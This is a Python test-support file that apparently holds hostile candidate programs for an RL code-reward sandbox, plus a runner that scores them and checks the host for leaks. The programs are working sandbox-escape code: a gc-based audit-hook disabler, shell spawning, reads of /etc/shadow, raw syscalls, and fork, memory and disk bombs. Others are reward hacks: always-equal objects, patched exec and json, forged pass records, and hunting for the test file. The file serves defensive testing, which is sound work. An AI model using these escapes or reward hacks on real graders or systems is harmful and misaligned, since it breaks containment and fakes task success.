"""Hostile programs for the code sandbox, and a runner that scores them and collects evidence.

Every program is a *candidate solution* for ``add(a, b)`` scored by the code reward
against ``TESTS``; each must score 0, and what it attacks is checked from the host
afterwards (``host_leaks``): files, processes, sockets, cgroups. Placeholders
(``TOKEN``, ``HOST_DIR``, ``PORT``, ``SECRET_PATH``, ``ABSTRACT``) are replaced per run;
``forbidden`` strings must not appear in what the sandbox printed (evidence that an
attack step reached something it must not see).

Used by tests/rewards/test_hostile.py in the test process (root on CI) and, through
``python hostile_programs.py``, by the same test as an unprivileged uid.
"""
from __future__ import annotations

import json
import os
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

# The last assert carries a marker that exists only in the tests (never in the sandbox).
TESTS = ["assert add(1, 2) == 3", "assert add(-1, 1) == 0", "assert add(20, 22) == 42, 'TEST-ONLY-TOKEN'",
         {"input": "1 2\n", "output": "3"}]

# Disables the bootstrap's audit hook from inside (the "gc" bypass family): a function
# with the same free variables and no checks replaces the hook's code.
DISABLE_HOOK = r'''
import gc
def _disable_hook():
    for obj in gc.get_objects():
        code = getattr(obj, "__code__", None)
        if type(obj).__name__ == "function" and obj.__name__ == "hook" and code and "boot" in code.co_filename:
            names = code.co_freevars
            src = "def outer():\n" + "".join(f"    {n} = None\n" for n in names)
            src += "    def hook(event, args):\n        return (" + "".join(f"{n}, " for n in names) + ")\n    return hook\n"
            scope = {}
            exec(src, scope)
            obj.__code__ = scope["outer"]().__code__
            return True
    return False
print("HOOK DISABLED", _disable_hook())
'''


@dataclass(frozen=True)
class Hostile:
    name: str
    intent: str
    source: str
    forbidden: tuple = ()  # strings that must not appear in the sandbox's stdout/stderr


PROGRAMS = [
    # -- plain hostile programs (contained before; must stay so) --------------------
    Hostile("infinite_loop", "burn CPU forever at import time",
            "while True:\n    pass\n"),
    Hostile("ignore_alarm_loop", "ignore the per-test timer and spin inside add",
            "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
            "def add(a, b):\n    while True:\n        pass\n"),
    Hostile("sleep_forever", "hold the slot without using CPU",
            "import time\ntime.sleep(3600)\n"),
    Hostile("fork_bomb", "exhaust the process table",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    Hostile("thread_bomb", "exhaust tasks with threads",
            "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"),
    Hostile("memory_bomb", "allocate 4 GB in one process",
            "x = bytearray(4 * 1024 ** 3)\n"),
    Hostile("memory_across_processes", "three processes holding 150 MB each at once (each under the per-process limit)",
            "import os, select\nr, w = os.pipe()\nfor _ in range(3):\n    if os.fork() == 0:\n"
            "        b = bytearray(150 * 1024 * 1024)\n        for i in range(0, len(b), 4096):\n            b[i] = 1\n"
            "        os.write(w, b'1')\n        select.select([], [], [], 0.5)\n        os._exit(0)\nheld = b''\n"
            "while select.select([r], [], [], 0.6)[0]:\n    held += os.read(r, 3)\n    if len(held) == 3:\n        break\n"
            "print('HELD', len(held), flush=True)\n"),
    Hostile("disk_fill", "write 800 MB in 4 MB files (each under the per-file limit)",
            "import os\ntotal = 0\ntry:\n    for i in range(200):\n        with open(f'f{i}', 'wb') as f:\n"
            "            f.write(b'x' * (4 * 1024 * 1024 - 1))\n        total += 4\nexcept OSError as e:\n    pass\n"
            "print('WROTE_MB', total)\n"),
    Hostile("huge_stdout", "flood stdout",
            "while True:\n    print('x' * 10000)\n"),
    Hostile("tcp_to_host", "connect to a TCP server listening on the host's loopback",
            "import socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(b'TOKEN')\n"
            "    print('CONNECTED')\nexcept OSError as e:\n    print('refused', e)\n", ("CONNECTED",)),
    Hostile("kill_parent", "signal the parent and every process it may reach",
            "import os, signal\nfor target in (os.getppid(), -1, 1):\n    try:\n        os.kill(target, signal.SIGKILL)\n"
            "    except Exception as e:\n        print('refused', e)\n"),
    Hostile("setsid_daemon", "leave a daemon behind that keeps writing to /tmp",
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n"
            "            open('/tmp/TOKEN-daemon', 'a').write('alive')\n            time.sleep(0.05)\n    os._exit(0)\n"
            "time.sleep(0.3)\ndef add(a, b):\n    return -7\n"),
    Hostile("sys_exit_zero", "exit with status 0 before defining anything",
            "import sys\nsys.exit(0)\n"),
    # -- the five bypass families of the audit hook ------------------------------------
    Hostile("mkfifo_mknod", "create a FIFO and a node outside the work dir (no audit event)",
            "import os\nfor path in ('/tmp/TOKEN-fifo', 'HOST_DIR/TOKEN-fifo', '/dev/shm/TOKEN-fifo'):\n"
            "    for make in (os.mkfifo, os.mknod):\n        try:\n            make(path + make.__name__)\n"
            "        except OSError as e:\n            print('refused', path, e)\n"),
    Hostile("dir_fd_create", "os.open(name, O_CREAT, dir_fd=<fd of a host directory>)",
            DISABLE_HOOK + "import os\nfor d in ('/tmp', '/', 'HOST_DIR', '/usr', '/root'):\n    try:\n"
            "        fd = os.open(d, os.O_RDONLY)\n        os.close(os.open('TOKEN-dirfd', os.O_CREAT | os.O_WRONLY, dir_fd=fd))\n"
            "        print('created in', d)\n    except OSError as e:\n        print('refused', d, e)\n"),
    Hostile("fork_exec_shell", "start /bin/sh: _posixsubprocess.fork_exec (no audit event), execv, posix_spawn",
            DISABLE_HOOK + "import os, subprocess\ntry:  # subprocess runs _posixsubprocess.fork_exec\n"
            "    print(subprocess.run(['/bin/sh', '-c', 'echo SH-RAN-TOKEN'], capture_output=True).stdout)\n"
            "except OSError as e:\n    print('fork_exec refused', e)\ntry:\n"
            "    os.posix_spawn('/bin/sh', ['/bin/sh', '-c', 'echo SH-RAN-TOKEN'], {})\nexcept OSError as e:\n"
            "    print('posix_spawn refused', e)\nchild = os.fork()\nif child == 0:\n    try:\n"
            "        os.execv('/bin/sh', ['/bin/sh', '-c', 'echo SH-RAN-TOKEN'])\n    except OSError as e:\n"
            "        print('execv refused', e, flush=True)\n    os._exit(3)\nos.waitpid(child, 0)\n", ("SH-RAN-TOKEN",)),
    Hostile("gc_hook_then_escape", "disable the audit hook via gc, then write to host paths and sockets",
            DISABLE_HOOK + "import os, socket\n"
            "for path in ('HOST_DIR/TOKEN-gc', '/tmp/TOKEN-gc', '/dev/shm/TOKEN-gc', '/var/tmp/TOKEN-gc'):\n"
            "    try:\n        open(path, 'w').write('pwned')\n        print('wrote', path)\n"
            "    except OSError as e:\n        print('refused', path, e)\n"
            "for address in ('HOST_DIR/sock', '\\0ABSTRACT'):\n    try:\n"
            "        s = socket.socket(socket.AF_UNIX)\n        s.connect(address)\n        s.sendall(b'TOKEN')\n"
            "        print('CONNECTED', address)\n    except OSError as e:\n        print('refused', address, e)\n",
            ("CONNECTED",)),
    Hostile("read_secret", "read a 0600 file of the caller (no uid separation when run as a user)",
            "for path in ('SECRET_PATH', '/etc/shadow', '/root/.bash_history', '/proc/1/environ'):\n    try:\n"
            "        print(open(path).read()[:200])\n    except OSError as e:\n        print('refused', path, e)\n",
            ("SECRET-TOKEN",)),
    Hostile("host_process_list", "see the host's processes in /proc",
            "import os\nfor pid in os.listdir('/proc'):\n    try:\n"
            "        print(pid, open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' '))\n    except OSError:\n"
            "        pass\n", ("TOKEN-canary",)),
    Hostile("privileges_and_kernel_calls", "use capabilities, new namespaces, mount, ptrace, bpf (hook disabled)",
            DISABLE_HOOK + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "print(open('/proc/self/status').read())\n"
            "calls = {'unshare_user': lambda: libc.unshare(0x10000000), 'unshare_mnt': lambda: libc.unshare(0x20000),\n"
            "         'mount_tmpfs': lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),\n"
            "         'ptrace_parent': lambda: libc.ptrace(16, os.getppid(), 0, 0),\n"
            "         'bpf': lambda: libc.syscall(321, 0, 0, 0), 'setuid0': lambda: libc.setuid(0),\n"
            "         'chroot': lambda: libc.chroot(b'/tmp'), 'af_inet': lambda: libc.socket(2, 1, 0)}\n"
            "for name, call in calls.items():\n    print('SYSCALL', name, call(), ctypes.get_errno())\n"),
    # -- the five reward hacks: a wrong add() that tries to score anyway ---------------
    Hostile("always_equal", "return an object whose __eq__ is always True (and truthy)",
            "class Yes:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
            "    def __bool__(self): return True\n    __hash__ = object.__hash__\n"
            "def add(a, b):\n    return Yes()\nprint(Yes())\n"),
    Hostile("exec_noop", "replace builtins.exec so that the tests never run",
            "import builtins\nbuiltins.exec = lambda *a, **k: None\nbuiltins.eval = lambda *a, **k: True\n"
            "def add(a, b):\n    return -7\n"),
    Hostile("json_patched", "patch json.dumps/loads to emit passing records",
            "import json\njson.dumps = lambda *a, **k: '{\"test\": 0, \"passed\": true}'\n"
            "json.loads = lambda *a, **k: {'test': 0, 'passed': True}\ndef add(a, b):\n    return -7\n"),
    Hostile("forge_channels", "write passing verdicts and fake replies to every descriptor, then exit",
            "import os\nfake = b''.join(b'{\"id\": %d, \"value\": 3, \"test\": %d, \"passed\": true}\\n' % (i, i % 4)"
            " for i in range(64))\nfor fd in range(3, 256):\n    try:\n        os.write(fd, fake)\n    except OSError:\n"
            "        pass\nos._exit(0)\n"),
    Hostile("read_tests", "look for the tests (a tests.json, the grader's files or memory) to replay them",
            "import os\nneedle = 'TEST-ONLY-' + 'TOKEN'  # built at run time: not in this source\nfound = []\n"
            "for root in ('/tmp', '/.asyncrl', '/proc', '/usr/lib/python3'):\n"
            "    for dirpath, dirs, files in os.walk(root):\n        if dirpath.count('/') > 4:\n            dirs[:] = []\n"
            "        for f in files:\n            try:\n                text = open(os.path.join(dirpath, f), errors='ignore').read(100000)\n"
            "            except Exception:\n                continue\n            if needle in text:\n"
            "                found.append(text[text.index(needle) - 40:][:80])\nprint('FOUND', found)\n"
            "def add(a, b):\n    return -7\n", ("TEST-ONLY-TOKEN",)),
]


def fill(source: str, values: dict) -> str:
    for key, value in values.items():
        source = source.replace(key, str(value))
    return source


def run_suite(host_dir: str, token: str, port: int, secret_path: str, abstract: str, workers: int = 2) -> list[dict]:
    """Score every program (in a pool of ``workers`` threads); one record per program."""
    from asyncrl.rewards.code import run_tests
    from asyncrl.rewards.sandbox import SandboxLimits

    limits = SandboxLimits(wall_time_s=6.0, cpu_time_s=2, memory_mb=256, max_processes=16, max_file_mb=4, disk_mb=32)
    values = {"TOKEN": token, "HOST_DIR": host_dir, "PORT": port, "SECRET_PATH": secret_path, "ABSTRACT": abstract}

    def one(program: Hostile) -> dict:
        report = run_tests(fill(program.source, values), TESTS, limits, per_test_timeout_s=1.0)
        output = report.sandbox.stdout + report.sandbox.stderr
        return {"name": program.name, "score": sum(report.passed) / len(report.passed),
                "status": report.sandbox.status, "isolation": report.sandbox.isolation, "output": output[-4000:],
                "forbidden_seen": [f for f in program.forbidden if fill(f, values) in output]}

    with ThreadPoolExecutor(workers) as pool:
        return list(pool.map(one, PROGRAMS))


def host_leaks(token: str, run_uids: set, port: int, search_dirs: list) -> list[str]:
    """What the programs left on the host: files or sockets named with the token,
    processes of the runs' uids, listeners on the port, run cgroups of this process."""
    leaks = []
    for directory in search_dirs:
        for dirpath, _dirs, files in os.walk(directory):
            leaks += [f"file {os.path.join(dirpath, f)}" for f in files + _dirs if token in f]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid in run_uids:
                leaks.append(f"process {pid} of a run uid")
        except OSError:
            pass
    for table in ("/proc/net/unix", "/proc/net/tcp", "/proc/net/tcp6"):
        try:
            text = open(table).read()
        except OSError:
            continue
        leaks += [f"socket {line.strip()}" for line in text.splitlines() if token in line]
        if table != "/proc/net/unix":  # a listener (state 0A) on PORT other than the test's own
            listening = [line for line in text.splitlines()[1:] if line.split()[3] == "0A"
                         and int(line.split()[1].rsplit(":", 1)[1], 16) == port]
            leaks += [f"listener {line.strip()}" for line in listening[1:]]
    from asyncrl.rewards.cgroup import PREFIX, _v1_bases

    for base in _v1_bases().values():
        leaks += [f"cgroup {base}/{e}" for e in os.listdir(base) if e.startswith(f"{PREFIX}{os.getpid()}-")]
    return leaks


def listeners(host_dir: str, abstract: str) -> tuple[socket.socket, socket.socket, socket.socket]:
    """A TCP listener on the loopback, a Unix socket in ``host_dir`` and an abstract one:
    the programs try to reach each; none may be reached."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(os.path.join(host_dir, "sock"))
    hidden = socket.socket(socket.AF_UNIX)
    hidden.bind("\0" + abstract)
    for s in (tcp, unix, hidden):
        s.listen(8)
        s.setblocking(False)
    os.chmod(os.path.join(host_dir, "sock"), 0o777)
    return tcp, unix, hidden


def reached(sockets) -> list[str]:
    """Which listeners got a connection."""
    got = []
    for s in sockets:
        try:
            s.accept()[0].close()
            got.append(str(s.getsockname()))
        except BlockingIOError:
            pass
    return got


def _uid(pid: str):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def _start_ticks(pid) -> int:
    """The process's start time in clock ticks since boot (/proc/<pid>/stat field 22); -1 if gone."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[19])
    except (OSError, IndexError, ValueError):
        return -1


def _describe(pid: str) -> str:
    """``pid state command`` of a process (what a leftover was), or ``pid`` alone once it is gone."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            state = f.read().rsplit(")", 1)[1].split()[0]
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            command = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
        return f"{pid} {state} {command[:200]}"
    except (OSError, IndexError):
        return pid


def _left_behind(uid: int, started: int, grace_s: float = 10.0) -> list[str]:
    """This uid's processes that started after ``started`` (this run's) and are still there
    ``grace_s`` later. The grace: SIGKILL is asynchronous, so a sandbox killed last may still be
    exiting (seen once on a loaded 2-core CI machine); a real escapee outlives it."""
    deadline = time.monotonic() + grace_s
    while True:
        others = [pid for pid in filter(str.isdigit, os.listdir("/proc"))
                  if int(pid) != os.getpid() and _uid(pid) == uid and _start_ticks(pid) >= started]
        if not others or time.monotonic() > deadline:
            return [_describe(pid) for pid in others]
        time.sleep(0.2)


if __name__ == "__main__":  # the unprivileged run: arguments as run_suite's, results as JSON
    host_dir, token, secret_path = sys.argv[1], sys.argv[2], sys.argv[3]
    abstract = f"asyncrl-listen-{os.getpid()}"
    sockets = listeners(host_dir, abstract)
    port = sockets[0].getsockname()[1]
    records = run_suite(host_dir, token, port, secret_path, abstract)
    uid = os.getuid()
    leaks = host_leaks(token, set(), port, [host_dir, "/tmp", "/dev/shm", "/var/tmp"])
    # this run's processes only: one that started before it (an earlier test's sandbox still being
    # torn down, seen once in a loaded full-suite run) is not a process this suite left behind
    started = _start_ticks(os.getpid())
    others = _left_behind(uid, started)
    print(json.dumps({"records": records, "leaks": leaks, "reached": reached(sockets), "processes_left": others}))
